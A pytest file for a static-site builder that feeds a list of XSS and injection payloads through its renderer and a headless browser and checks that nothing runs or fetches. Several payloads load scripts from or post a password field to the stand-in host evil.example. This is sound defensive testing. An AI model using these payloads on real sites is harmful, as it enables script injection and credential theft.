"""Upstream text is untrusted: whatever stands in it, nothing runs and nothing is fetched from elsewhere."""

from __future__ import annotations

import re
import threading
from dataclasses import replace
from pathlib import Path

import pytest
import small
from playwright.sync_api import Page as Tab

from builder.site.build import build
from builder.site.policy import PolicyError, check
from builder.site.render import render
from builder.site.serve import make_server

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><use href='data:x'/></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "[click](javascript:alert(1))",
    "[click](<java\nscript:alert(1)>)",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[x](https://example.org 'title\" onmouseover=alert(1) x=\"')",
    "<form action='https://evil.example'><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<strata-input type=text></strata-input>",
    "<strata-label for=__drawer>x</strata-label>",
    "<strastrata-ta-label for=__drawer>x</strastrata-ta-label>",
    "<div class='md-overlay' id='__drawer'>x</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    '::: note "<img src=x onerror=alert(1)>"\nx\n:::',
    '::: card "x" href="javascript:alert(1)"\nx\n:::',
    '::: step "x" id="a\\" onclick=\\"alert(1)"\nx\n:::',
    '```js title="<script>alert(1)</script>"\n</code></pre><script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "```mermaid\n</pre><script>alert(1)</script>\n```",
    "## <img src=x onerror=alert(1)> {#a\"onclick=alert(1)}",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "![x](https://evil.example/pixel.png)",
    "<img src='//evil.example/pixel.png' alt=x>",
    "<img src='/assets/../x.png' alt=x>",
    "<video src='https://evil.example/x.mp4' poster='https://evil.example/x.png'></video>",
]  # fmt: skip
FORBIDDEN = {
    "script", "style", "iframe", "form", "input", "button", "label", "base", "meta", "link", "svg", "video", "math",
}  # fmt: skip
_TAG = re.compile(r"""<[a-z](?:[^>"']|"[^"]*"|'[^']*')*>""", re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_fetches_is_left(attack: str) -> None:
    made = render(f"Before.\n\n{attack}\n\nAfter.\n", "/demo/1.0/page/").html
    tags = [tag.lower() for tag in _TAG.findall(made)]
    names = {re.match(r"<([a-z0-9-]+)", tag)[1] for tag in tags}  # type: ignore[index]
    assert not names & FORBIDDEN
    without_values = [re.sub(r'="[^"]*"', "", tag) for tag in tags]
    assert not [tag for tag in without_values if re.search(r"\s(?:on[a-z]+|style)\b", tag)]
    assert not [tag for tag in tags if re.search(r'\s(?:href|src)="\s*(?:javascript|data):', tag)]
    assert not [tag for tag in tags if tag.startswith("<img") and "src=" in tag]
    assert not [tag for tag in tags if 'class="md-' in tag or 'id="__' in tag or "strata-" in tag]


def test_a_link_to_another_host_by_two_slashes_is_seen_as_one() -> None:
    made = render("[x](//other.example/a)", "/demo/1.0/page/").html
    assert made == '<p><a href="https://other.example/a" rel="noopener noreferrer">x</a></p>\n'


def test_a_remote_image_leaves_its_words() -> None:
    assert render("![A chart](https://x.example/c.png)", "/").html == (
        '<p><span class="missing-image">A chart</span></p>\n'
    )


@pytest.mark.parametrize(
    "script",
    ["<script>alert(1)</script>", '<script src="https://evil.example/x.js"></script>',
     '<script src="//evil.example"></script>', '<b title="a>b" onclick="x">',
     "<script>unfinished", '<script type="module">alert(1)</script>'],
)  # fmt: skip
def test_a_script_that_is_not_the_themes_stops_the_build(script: str) -> None:
    with pytest.raises(PolicyError, match=r"index\.html holds"):
        check(f"<html><body>{script}</body></html>", "index.html")


def test_code_that_only_looks_like_a_handler_does_not_stop_it() -> None:
    check('<p title="turn onx=1">&lt;b onClick={x}&gt; <code>a onclick=b</code></p>', "index.html")


def test_in_a_browser_nothing_runs_whatever_field_it_stands_in(tmp_path: Path, page: Tab) -> None:
    evil = '"><script>document.title = "owned"</script><img src=x onerror="document.title = \'owned\'">'
    hostile = small.page("1.0", "evil", f"Evil {evil}", "\n\n".join(ATTACKS), f"About {evil}")
    hostile = replace(hostile, groups=(evil, evil), upstream=f"https://example.org/{evil}")
    edition = replace(
        small.edition("1.0", 0, hostile),
        title=f"Demo {evil}", label=f"1.0 {evil}", latest=True, origin=replace(small.ORIGIN, name=evil, licence=evil),
    )  # fmt: skip
    build([edition], small.settings(), tmp_path / "site", tmp_path / "cache")
    with make_server(tmp_path / "site", 0) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_address[1]}/"
        elsewhere: list[str] = []
        page.on(
            "request", lambda request: elsewhere.append(request.url) if not request.url.startswith(address) else None
        )
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
        for path in ("demo/1.0/evil/", "demo/1.0/", ""):
            page.goto(address + path)
            page.wait_for_load_state("networkidle")
            assert "<script>" in page.title() or path == ""
            assert page.title() != "owned"
        server.shutdown()
    assert [url for url in elsewhere if not url.startswith("data:")] == []
